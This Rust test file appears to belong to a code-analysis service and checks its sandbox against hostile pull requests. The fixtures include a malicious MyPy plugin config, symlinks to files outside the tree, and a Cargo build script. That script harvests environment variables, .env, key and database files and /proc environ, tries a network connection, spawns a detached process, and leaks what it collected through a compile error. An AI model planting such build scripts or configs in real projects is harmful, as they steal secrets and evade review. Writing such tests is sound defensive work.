//! Analysed code as an attacker: each test is an attack a pull request could make, run with
//! the real pinned tools in the real bubblewrap jail, and checks that it gets nowhere — no code
//! run outside the jail, no secret in any output, no connection out, no process left behind,
//! no analysis weakened.
//!
//! Where an attack would work without flext-quality's protection, the test first shows that it
//! does (the same tool run bare), so a test that passes proves the protection, not a dud attack.

mod harness;
mod support;

use flext_quality::analysis::backends::LocalFiles;
use flext_quality::analysis::engine::{
    AnalysisInput, BackendReport, BackendStatus, Engine, TreeAnalysis, DEFAULT_MAX_FINDINGS,
};
use flext_quality::analysis::jail::{Jail, JailState, SandboxSetting};
use flext_quality::analysis::repo_config::{parse_repo_config, ConfigSource, RepoConfig};
use flext_quality::analysis::toolchain::Toolchain;
use flext_quality::domain::policy::RuleOverrides;
use harness::tools::{tool, tools_dir};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

fn engine(timeout: Duration) -> Engine {
    let jail = Jail::new(SandboxSetting::Required, Toolchain::resolve(&tools_dir()));
    assert_eq!(
        jail.state(),
        &JailState::Jailed,
        "the jail must work here (scripts/test.sh installs bubblewrap)"
    );
    Engine {
        jail,
        timeout,
        result_cache: None,
        tool_cache: None,
        policy: RuleOverrides::default(),
        sarif_tools: Vec::new(),
        max_findings: DEFAULT_MAX_FINDINGS,
        runs: Default::default(),
    }
}

fn config(text: &str) -> RepoConfig {
    parse_repo_config(text, ConfigSource::FlextToml).unwrap_or_else(|e| panic!("{e}"))
}

/// Analyses `head` with `config`, reading configuration files (rules, MyPy settings) from
/// `config_root` — a pull request's base.
async fn analyse(e: &Engine, head: &Path, config_root: &Path, config: &RepoConfig) -> TreeAnalysis {
    let input = AnalysisInput {
        root: head.to_path_buf(),
        config: config.clone(),
        config_files: Arc::new(LocalFiles {
            root: config_root.to_path_buf(),
        }),
    };
    e.analyse(&input, None).await.expect("analysis")
}

fn report<'a>(a: &'a TreeAnalysis, name: &str) -> &'a BackendReport {
    a.reports
        .iter()
        .find(|r| r.name == name)
        .unwrap_or_else(|| panic!("no report for {name}: {:?}", a.reports))
}

fn write(root: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = root.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// Everything an analysis could show anyone: findings, reports, notes, reasons.
fn everything_shown(a: &TreeAnalysis) -> String {
    format!("{:?}\n{:?}", a.findings, a.reports)
}

fn unique(prefix: &str) -> String {
    let mut b = [0u8; 6];
    openssl::rand::rand_bytes(&mut b).unwrap();
    format!(
        "{prefix}-{}",
        b.iter().map(|x| format!("{x:02x}")).collect::<String>()
    )
}

/// Host processes whose command line contains `needle`.
fn host_processes(needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if text.contains(needle) {
            found.push(text);
        }
    }
    found
}

const EVIL_PLUGIN: &str = r#"import sys
print("PLUGIN-RAN-MARKER", file=sys.stderr)
print('{"file": "app.py", "line": 1, "column": 0, "end_line": 1, "end_column": 1, "message": "PLUGIN-RAN-MARKER", "hint": null, "code": "misc", "severity": "error"}')

def plugin(version):
    from mypy.plugin import Plugin
    return Plugin
"#;

const EVIL_EXE: &str = "#!/bin/sh\necho EXEC-RAN-MARKER\necho EXEC-RAN-MARKER >&2\nexit 1\n";

/// A pull request's MyPy configuration, in every file MyPy reads, tries to load a plugin, run
/// a program and switch the checks off.
fn evil_mypy_tree(root: &Path) {
    write(
        root,
        &[
            ("app.py", "x: int = \"not an int\"\n"),
            ("evil.py", EVIL_PLUGIN),
            ("x", EVIL_EXE),
            (
                "mypy.ini",
                "[mypy]\nplugins = evil, evil.py\npython_executable = ./x\nignore_errors = True\n",
            ),
            ("setup.cfg", "[mypy]\nplugins = evil.py\nignore_errors = True\n"),
            (
                "pyproject.toml",
                "[tool.mypy]\nplugins = [\"evil.py\"]\npython_executable = \"./x\"\nignore_errors = true\n",
            ),
        ],
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(root.join("x"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mypy_configs_cannot_load_plugins_run_programs_or_switch_checks_off() {
    let head = tempfile::tempdir().unwrap();
    evil_mypy_tree(head.path());
    // The attack is real: MyPy run bare on the tree imports the plugin.
    let bare = Command::new(tool("mypy"))
        .args(["--cache-dir", "/dev/null", "."])
        .current_dir(head.path())
        .output()
        .unwrap();
    let bare_text = format!("{bare:?}");
    assert!(
        bare_text.contains("PLUGIN-RAN-MARKER") || bare_text.contains("EXEC-RAN-MARKER"),
        "the attack does not work bare, so it proves nothing: {bare_text}"
    );

    let e = engine(Duration::from_secs(120));
    let only_mypy = config("[backends]\nmypy = {}\n");
    // 1. A pull request's configuration is never read: the base has none.
    let base = tempfile::tempdir().unwrap();
    let a = analyse(&e, head.path(), base.path(), &only_mypy).await;
    // 2. Even the base's own configuration (here the same files) cannot do it.
    let b = analyse(&e, head.path(), head.path(), &only_mypy).await;
    for (which, a) in [("head config", &a), ("base config", &b)] {
        let shown = everything_shown(a);
        assert!(!shown.contains("RAN-MARKER"), "{which}: {shown}");
        let mypy = report(a, "mypy");
        assert_eq!(mypy.status, BackendStatus::Ok, "{which}: {mypy:?}");
    }
    // The pull request's `ignore_errors` did not switch the check off: the real type error is
    // reported. (The base's own `ignore_errors` is the project's choice, and is honoured.)
    assert!(
        a.findings
            .iter()
            .any(|f| f.backend == "mypy" && f.path == "app.py" && f.rule == "assignment"),
        "{:?}",
        a.findings
    );
    let notes = &report(&b, "mypy").notes;
    assert!(
        notes.iter().any(|n| n.contains("`plugins` was left out")),
        "{notes:?}"
    );
}

/// A crate whose build script tries every way out it can think of, and reports what it got
/// through a compile error (which becomes a finding, so it would be posted on the PR).
fn spy_crate(root: &Path, secrets: &[PathBuf], port: u16, sleeper: &str) {
    let files: String = secrets
        .iter()
        .map(|p| format!("{:?}.to_string()", p.display().to_string()))
        .collect::<Vec<_>>()
        .join(", ");
    let build = format!(
        r#####"use std::io::Write;
fn main() {{
    let mut seen = String::from("COLLECTED:");
    for (k, v) in std::env::vars() {{
        seen.push_str(&format!(" {{k}}={{v}};"));
    }}
    let dir = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    let mut paths: Vec<String> = vec![{files}];
    for rel in ["../.env", "../../.env", "../../../.env", "../flext-quality.db", "../../flext-quality.db"] {{
        paths.push(format!("{{dir}}/{{rel}}"));
    }}
    if let Ok(entries) = std::fs::read_dir("/proc") {{
        for e in entries.flatten() {{
            paths.push(format!("{{}}/environ", e.path().display()));
        }}
    }}
    for p in paths {{
        if let Ok(text) = std::fs::read_to_string(&p) {{
            seen.push_str(&format!(" FILE {{p}}: {{}};", text.replace('\0', " ")));
        }}
    }}
    match std::net::TcpStream::connect_timeout(&"127.0.0.1:{port}".parse().unwrap(), std::time::Duration::from_secs(2)) {{
        Ok(_) => seen.push_str(" NET connected;"),
        Err(e) => seen.push_str(&format!(" NET {{e}};")),
    }}
    let _ = std::process::Command::new("setsid")
        .arg(format!("{{dir}}/{sleeper}"))
        .arg("1000")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
    // Written next to the sources (cargo runs in a writable copy of the tree), so the compile
    // error lands on a line of the repository and would be posted as an annotation.
    let mut f = std::fs::File::create(format!("{{dir}}/src/leak.rs")).unwrap();
    writeln!(f, "compile_error!({{:?}});", seen).unwrap();
}}
"#####
    );
    let key = secrets[0].display().to_string();
    write(
        root,
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"spy\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n",
            ),
            ("build.rs", &build),
            (
                "src/lib.rs",
                &format!(
                    "include!(\"leak.rs\");\npub const KEY: &str = include_str!({key:?});\n"
                ),
            ),
        ],
    );
    std::fs::copy("/usr/bin/sleep", root.join(sleeper)).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn build_scripts_read_no_secret_reach_no_network_and_leave_nothing_running() {
    // What a server holds: a key file, a .env and a database next to the work trees, secrets
    // in its environment.
    let server = tempfile::tempdir().unwrap();
    let data = server.path().join("data");
    let tree = data.join("worktrees/1-abc");
    std::fs::create_dir_all(&tree).unwrap();
    let canary = unique("CANARY");
    let key = server.path().join("app-key.pem");
    std::fs::write(&key, format!("-----BEGIN PRIVATE KEY----- {canary}-key")).unwrap();
    std::fs::write(
        server.path().join(".env"),
        format!("SECRET={canary}-dotenv"),
    )
    .unwrap();
    std::fs::write(data.join(".env"), format!("SECRET={canary}-dotenv2")).unwrap();
    std::fs::write(data.join("flext-quality.db"), format!("{canary}-db")).unwrap();
    std::env::set_var("FLEXT_ADVERSARIAL_CANARY", format!("{canary}-env"));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let sleeper = unique("sleeper");
    spy_crate(
        &tree,
        &[
            key.clone(),
            data.join("flext-quality.db"),
            server.path().join(".env"),
        ],
        port,
        &sleeper,
    );

    let started = Instant::now();
    let a = analyse(
        &engine(Duration::from_secs(300)),
        &tree,
        &tree,
        &config("[backends]\nclippy = {}\n"),
    )
    .await;
    let clippy = report(&a, "clippy");
    assert_eq!(clippy.status, BackendStatus::Ok, "{clippy:?}");
    // The build script ran and its report came through as a finding: the channel works...
    let collected = a
        .findings
        .iter()
        .find(|f| f.message.contains("COLLECTED:"))
        .unwrap_or_else(|| panic!("the build script's report is missing: {:?}", a.findings));
    println!("what the build script saw: {}", collected.message);
    assert!(collected.message.contains("PATH="), "{}", collected.message);
    assert!(collected.message.contains("NET "), "{}", collected.message);
    assert!(
        !collected.message.contains("NET connected"),
        "{}",
        collected.message
    );
    // ...and carried nothing of the server's.
    let shown = everything_shown(&a);
    assert!(!shown.contains(&canary), "a secret leaked: {shown}");
    // `include_str!` of the key path fails without saying what is in it.
    assert!(
        a.findings.iter().any(|f| f.message.contains("app-key.pem")),
        "{:?}",
        a.findings
    );
    assert!(listener.accept().is_err(), "a connection reached the host");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(host_processes(&sleeper), Vec::<String>::new());
    println!("clippy with a spying build script: {:?}", started.elapsed());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_script_that_never_ends_is_killed_at_the_timeout() {
    let tree = tempfile::tempdir().unwrap();
    let sleeper = unique("forever");
    std::fs::copy("/usr/bin/sleep", tree.path().join(&sleeper)).unwrap();
    write(
        tree.path(),
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"forever\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
            ),
            (
                "build.rs",
                &format!(
                    "fn main() {{ let dir = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap(); let _ = std::process::Command::new(\"setsid\").arg(format!(\"{{dir}}/{sleeper}\")).arg(\"1000\").spawn(); let _ = std::process::Command::new(format!(\"{{dir}}/{sleeper}\")).arg(\"1000\").status(); }}\n"
                ),
            ),
            ("src/lib.rs", "pub fn f() {}\n"),
        ],
    );
    let timeout = Duration::from_secs(20);
    let started = Instant::now();
    let a = analyse(
        &engine(timeout),
        tree.path(),
        tree.path(),
        &config("[backends]\nclippy = {}\n"),
    )
    .await;
    let elapsed = started.elapsed();
    assert_eq!(report(&a, "clippy").status, BackendStatus::TimedOut);
    assert!(elapsed < timeout + Duration::from_secs(15), "{elapsed:?}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(host_processes(&sleeper), Vec::<String>::new());
}

const RULE: &str = "rules:\n  - id: no-eval\n    pattern: eval(...)\n    message: eval of $X\n    languages: [python]\n    severity: ERROR\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_come_from_the_base_and_links_are_refused() {
    let semgrep = config("[backends]\nsemgrep = { config = [\"rules/\"] }\n");
    let e = engine(Duration::from_secs(120));
    let base = tempfile::tempdir().unwrap();
    write(base.path(), &[("rules/eval.yml", RULE)]);
    // The pull request empties the rules and tells Semgrep to ignore everything.
    let head = tempfile::tempdir().unwrap();
    write(
        head.path(),
        &[
            ("app.py", "eval(input())\n"),
            ("rules/eval.yml", "rules: []\n"),
            (".semgrepignore", "*\n"),
        ],
    );
    let a = analyse(&e, head.path(), base.path(), &semgrep).await;
    assert_eq!(
        report(&a, "semgrep").status,
        BackendStatus::Ok,
        "{:?}",
        a.reports
    );
    assert!(
        a.findings
            .iter()
            .any(|f| f.backend == "semgrep" && f.rule == "rules.no-eval" && f.path == "app.py"),
        "{:?}",
        a.findings
    );

    // Rules that are links (to a file, or a directory) are refused, not followed.
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), &[("eval.yml", RULE)]);
    let links: [fn(&Path, &Path); 2] = [
        |base: &Path, outside: &Path| {
            std::fs::create_dir_all(base.join("rules")).unwrap();
            std::os::unix::fs::symlink(outside.join("eval.yml"), base.join("rules/eval.yml"))
                .unwrap();
        },
        |base: &Path, outside: &Path| {
            std::os::unix::fs::symlink(outside, base.join("rules")).unwrap();
        },
    ];
    for make_link in links {
        let linked = tempfile::tempdir().unwrap();
        make_link(linked.path(), outside.path());
        let a = analyse(&e, head.path(), linked.path(), &semgrep).await;
        match &report(&a, "semgrep").status {
            BackendStatus::Failed(why) => assert!(why.contains("symbolic link"), "{why}"),
            other => panic!("linked rules were used: {other:?}"),
        }
        assert!(a
            .failed_backends()
            .iter()
            .any(|f| f.starts_with("semgrep:")));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_to_files_outside_leak_nothing() {
    let outside = tempfile::tempdir().unwrap();
    let canary = unique("CANARY");
    write(
        outside.path(),
        &[(
            "secret.py",
            &format!("password = \"{canary}\"\nimport os\n"),
        )],
    );
    let head = tempfile::tempdir().unwrap();
    write(head.path(), &[("app.py", "import sys\n")]);
    std::os::unix::fs::symlink(
        outside.path().join("secret.py"),
        head.path().join("leak.py"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), head.path().join("pkg")).unwrap();
    let a = analyse(
        &engine(Duration::from_secs(120)),
        head.path(),
        head.path(),
        &config("[backends]\nruff = {}\nbandit = {}\n"),
    )
    .await;
    let shown = everything_shown(&a);
    assert!(!shown.contains(&canary), "{shown}");
    assert!(
        a.findings.iter().all(|f| f.path == "app.py"),
        "{:?}",
        a.findings
    );
    assert_eq!(report(&a, "ruff").status, BackendStatus::Ok);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_output_is_cut_to_the_limit_not_failed() {
    let head = tempfile::tempdir().unwrap();
    let code: String = (0..300)
        .map(|i| format!("x{i} = undefined_{i}\n"))
        .collect();
    write(head.path(), &[("many.py", &code)]);
    let mut e = engine(Duration::from_secs(120));
    e.max_findings = 50;
    let a = analyse(
        &e,
        head.path(),
        head.path(),
        &config("[backends]\nruff = {}\n"),
    )
    .await;
    let ruff = report(&a, "ruff");
    assert_eq!(ruff.status, BackendStatus::Ok, "{ruff:?}");
    assert_eq!((ruff.findings, ruff.over_limit), (50, 250), "{ruff:?}");
}
